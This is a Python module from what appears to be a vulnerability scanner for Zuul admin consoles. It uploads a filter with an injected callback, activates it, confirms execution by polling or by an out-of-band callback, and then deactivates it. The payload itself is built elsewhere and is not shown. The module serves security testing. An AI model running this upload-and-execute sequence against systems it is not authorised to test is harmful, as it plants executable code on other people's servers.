# SPDX-FileCopyrightText: 2025 Theori Inc.
# SPDX-License-Identifier: AGPL-3.0-or-later

"""
Active probe: upload a filter, then prove it executes.

The run is a strict sequence of HTTP exchanges, each of which may end the scan:

1. check_prior     - verification endpoint already answers -> prev_enabled
2. snapshot_before - registry revision of the probe filter before upload
3. upload          - 302 continues; 403 / 500 / other end the run
4. race_callback   - out-of-band callback already received -> vulnerable
5. snapshot_after  - registry revision must have advanced
6. activate        - ACTIVATE the new revision, 302 expected
7. confirm_poll    - poll the verification endpoint with exponential backoff
8. deactivate      - DEACTIVATE the revision again (cleanup)

Failures are raised as ZuulGuardError subclasses carrying the ResultSet built so far.
"""

from __future__ import annotations

import logging
import time
from collections.abc import Callable

from ..constants import (
    ACTION_ACTIVATE,
    ACTION_DEACTIVATE,
    CASSANDRA_DORK,
    CONFIRMATION_BODY,
    DEFAULT_POLL_ATTEMPTS,
    SET_FILTER_ENDPOINT,
    UPLOAD_ENDPOINT,
    VCHECK_ENDPOINT,
    VCHECK_FILTER_ID,
    endpoint_url,
)
from ..errors import (
    ActivationError,
    ActivationTimeoutError,
    DeactivationError,
    InvalidInputError,
    StateInconsistencyError,
    TransportError,
    ZuulGuardError,
)
from ..http.boundary import HttpBoundary
from ..http.client import HttpClient, create_default_http_client
from ..models.result import ResultSet
from ..registry import fetch_filter_registry, revision_of
from .artifacts import build_vulncheck_artifact
from .confirmation import ConfirmationSignal

logger = logging.getLogger(__name__)


def backoff_delay(attempt_index: int) -> float:
    """Seconds to wait after the given (0-based) unconfirmed poll attempt."""
    return float(1 << attempt_index)


class ActiveProbe:
    def __init__(
        self,
        boundary: HttpBoundary,
        *,
        sleep: Callable[[float], None] = time.sleep,
        poll_attempts: int = DEFAULT_POLL_ATTEMPTS,
    ):
        self.boundary = boundary
        self.sleep = sleep
        self.poll_attempts = poll_attempts

    def run(self, target: str, callback: str, signal: ConfirmationSignal | None) -> ResultSet:
        """
        Verify a target. `callback` is injected into the uploaded filter; whoever
        receives that callback must `notify()` the given signal.
        """
        if not target:
            raise InvalidInputError(f"target can not be empty, target: {target!r}")
        if signal is None or getattr(signal, "capacity", 0) < 1:
            raise InvalidInputError("confirmation signal can not be nil and must have capacity >= 1")

        result = ResultSet()
        try:
            self._run(target, callback, signal, result)
        except ZuulGuardError as exc:
            if exc.result is None:
                exc.result = result
            raise
        return result

    def _run(self, target: str, callback: str, signal: ConfirmationSignal, result: ResultSet) -> None:
        if self._is_filter_enabled(target):
            logger.debug("%s: probe filter already enabled", target)
            result.prev_enabled = True
            return

        current_rev = revision_of(fetch_filter_registry(self.boundary, target), VCHECK_FILTER_ID)
        logger.debug("%s: revision before upload: %d", target, current_rev)

        if not self._upload(target, callback, result):
            return

        # A callback that already arrived proves execution; no need to go through the
        # registry/activation path.
        if signal.poll():
            logger.debug("%s: callback received before activation", target)
            result.vulnerable = True
            return

        new_rev = revision_of(fetch_filter_registry(self.boundary, target), VCHECK_FILTER_ID)
        logger.debug("%s: revision after upload: %d", target, new_rev)
        if new_rev <= current_rev:
            raise StateInconsistencyError(
                f"revision didn't increase after filter upload. prev: {current_rev}, curr: {new_rev}"
            )

        status = self._set_filter_action(target, ACTION_ACTIVATE, new_rev)
        if status != 302:
            raise ActivationError(f"unexpected response when activating filter revision {new_rev}: {status}")

        enabled = self._wait_until_enabled(target)
        result.vulnerable = enabled
        if not enabled:
            raise ActivationTimeoutError("filter seems to have been uploaded but was never activated")

        # Cleanup. Zuul may keep the filter loaded until restart regardless.
        try:
            status = self._set_filter_action(target, ACTION_DEACTIVATE, new_rev)
        except TransportError as exc:
            raise DeactivationError(f"unable to deactivate filter revision {new_rev}: {exc}") from exc
        if status != 302:
            raise DeactivationError(f"unexpected response when deactivating filter revision {new_rev}: {status}")

    def _is_filter_enabled(self, target: str) -> bool:
        response = self.boundary.get(endpoint_url(target, VCHECK_ENDPOINT))
        return response.status_code == 200 and response.text == CONFIRMATION_BODY

    def _upload(self, target: str, callback: str, result: ResultSet) -> bool:
        """Upload the probe filter. Returns True when the scan should continue."""
        artifact = build_vulncheck_artifact(callback)
        response = self.boundary.post_multipart(
            endpoint_url(target, UPLOAD_ENDPOINT),
            artifact.filename,
            artifact.content,
        )
        logger.debug("%s: upload answered %s", target, response.status_code)

        if response.status_code == 302:
            return True
        if response.status_code == 403:
            result.admin_disabled = True
        elif response.status_code == 500 and CASSANDRA_DORK in response.text:
            # No Cassandra store behind the console; only a callback could confirm it.
            result.might_vulnerable = True
        return False

    def _set_filter_action(self, target: str, action: str, revision: int) -> int:
        response = self.boundary.post_form(
            endpoint_url(target, SET_FILTER_ENDPOINT),
            {"filter_id": VCHECK_FILTER_ID, "action": action, "revision": str(revision)},
        )
        return response.status_code or 0

    def _wait_until_enabled(self, target: str) -> bool:
        for attempt in range(self.poll_attempts):
            if self._is_filter_enabled(target):
                logger.debug("%s: filter active after %d attempt(s)", target, attempt + 1)
                return True
            self.sleep(backoff_delay(attempt))
        return False


def active_scan(
    target: str,
    callback: str,
    signal: ConfirmationSignal | None,
    http_client: HttpClient | None = None,
) -> ResultSet:
    """Run an active scan, creating (and closing) a default client when none is given."""
    if http_client is not None:
        return ActiveProbe(HttpBoundary(http_client)).run(target, callback, signal)
    client = create_default_http_client()
    try:
        return ActiveProbe(HttpBoundary(client)).run(target, callback, signal)
    finally:
        client.close()


__all__ = ["ActiveProbe", "active_scan", "backoff_delay"]
